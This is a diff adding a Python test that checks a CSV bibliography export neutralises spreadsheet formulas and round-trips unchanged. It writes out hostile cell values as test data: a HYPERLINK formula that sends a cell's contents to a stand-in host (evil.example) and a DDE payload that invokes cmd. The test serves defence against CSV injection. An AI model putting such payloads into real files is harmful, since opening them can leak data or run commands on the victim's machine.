@@ -118,6 +118,23 @@ def test_a_csv_export_reads_back_with_its_tags_and_one_author_as_one() -> None:
     assert (draft.authors, draft.categories) == (["Piotr Kowalski"], ["cs.LG"])
 
 
+def test_a_csv_export_runs_no_formula_in_a_spreadsheet_and_reads_back_unchanged() -> None:
+    """An added file is untrusted: "=HYPERLINK(…)" as a title runs when the exported CSV is opened in a spreadsheet."""
+    from assistant.corpus import parse_csv
+
+    hostile = ACCENTED.model_copy(update={
+        "title": '=HYPERLINK("https://evil.example/?"&A1,"Open")', "venue": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "abstract": "+" + ACCENTED.abstract + " It holds for every kernel we tried on the benchmarks.",
+    })
+    (row,) = csv.DictReader(to_csv([hostile]).splitlines())
+    cells = [v for v in row.values() if v]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t"))], row  # a spreadsheet shows them as text
+    assert row["Title"] == "'" + hostile.title and row["Abstract Note"].startswith("'+")
+    (draft,), issues = parse_csv(to_csv([hostile]), "library.csv")
+    assert not issues and (draft.title, draft.abstract, draft.venue) == (hostile.title, hostile.abstract, hostile.venue)
+    assert to_csv([ACCENTED]).count("'") == to_csv([ACCENTED]).count("O'Neil")  # nothing else is touched
+
+
 @pytest.mark.parametrize("kind", [*get_args(WorkType), None])
 def test_each_kind_of_work_exports_as_its_own_type_and_reads_back(kind: WorkType | None) -> None:
     """@inproceedings with a booktitle, @phdthesis with a school, RIS CPAPER, Zotero's conferencePaper: not
